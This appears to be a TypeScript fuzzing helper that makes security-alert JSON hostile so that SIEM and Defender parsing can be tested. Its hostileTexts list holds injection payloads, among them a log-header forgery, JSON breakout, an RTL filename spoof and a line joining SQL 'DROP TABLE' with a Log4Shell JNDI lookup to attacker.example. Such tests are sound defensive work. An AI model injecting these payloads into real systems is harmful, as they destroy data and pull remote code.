import { type Random, randomOf } from './random.ts';

type Shape = 'graph' | 'defender' | 'siem';

/** Text that ends fields, starts messages or breaks framing where it is not encoded (API reference §13). */
export const hostileTexts: readonly string[] = [
  'a|b=c\\d',
  'line one\r\nCEF:0|Forged|Forged|1|1|Forged|10|act=forged',
  'tab\tend\u0000nul',
  'ls\u2028ps\u2029nel\u0085end',
  '<134>1 2026-01-01T00:00:00Z forged forged - - - forged',
  '"},{"id":"forged"}]}',
  '\ud800 lone \udc00',
  '\u202egnp.exe',
  'x=1 cs1Label=forged cs1=forged',
  "'; DROP TABLE events; --${jndi:ldap://attacker.example/a}",
  '\u001b[2J\u0007bell',
  '日本語 🦊 é e\u0301',
];
/** Properties whose text an attacker chooses; the rest Microsoft writes. */
const chosen =
  /^(?:title|description|alertTitle|fileName|filePath|processCommandLine|commandLine|url|subject|comment|registryValue|registryValueName|accountName|displayName|deviceDnsName|computerDnsName)$/i;
const placeholder = 'beyond-2-53';
const manyPieces = 1000;
const longCommandLine = 1 << 20;

/**
 * Returns the JSON text of `record`, made hostile in the way of `variant`; 0 leaves it alone. All text that an attacker
 * chooses is replaced or lengthened; now and then there are unknown members and types, nulls, numbers beyond 2^53, a
 * command line of 1 MiB, or 1,000 pieces of evidence.
 */
export function hostileJson(
  record: Readonly<Record<string, unknown>>,
  variant: number,
  shape: Shape,
): string {
  if (variant === 0) return JSON.stringify(record);
  const random = randomOf('hostile', variant);
  const changed = { ...(change(record, random) as Record<string, unknown>) };
  if (shape === 'siem') return JSON.stringify(changed);
  const evidence = Array.isArray(changed.evidence) ? (changed.evidence as unknown[]) : [];
  changed.evidence = extend(evidence, variant, random, shape);
  if (variant % 5 === 0) for (const name of ['category', 'assignedTo', 'comments']) changed[name] = null;
  if (variant % 4 === 1) changed.futureProperty = { nested: [placeholder] };
  return JSON.stringify(changed).replaceAll(`"${placeholder}"`, '9007199254740993');
}

function change(value: unknown, random: Random, name = ''): unknown {
  if (typeof value === 'string') return chosen.test(name) ? `${value} ${random.pick(hostileTexts)}` : value;
  if (Array.isArray(value)) return value.map((item: unknown) => change(item, random, name));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, change(inner, random, key)]));
}

function extend(evidence: unknown[], variant: number, random: Random, shape: Shape): unknown[] {
  if (evidence.length === 0) return evidence;
  const unknown =
    shape === 'graph'
      ? {
          '@odata.type': '#microsoft.graph.security.quantumEvidence',
          verdict: 'perhaps',
          text: hostileTexts[0],
        }
      : { entityType: 'Quantum', detectionStatus: 'Perhaps', fileName: hostileTexts[0] };
  const extended = variant % 3 === 0 ? [...evidence, { ...unknown, size: placeholder }] : evidence;
  const first = extended.find(
    (item) => typeof item === 'object' && item !== null && 'processCommandLine' in item,
  );
  if (variant % 50 === 1 && typeof first === 'object') {
    return [
      { ...first, processCommandLine: `cmd.exe /c ${random.hex(16).repeat(longCommandLine / 16)}` },
      ...extended,
    ];
  }
  if (variant % 50 === 2)
    return Array.from({ length: manyPieces }, (_, index) => extended[index % extended.length]);
  return extended;
}
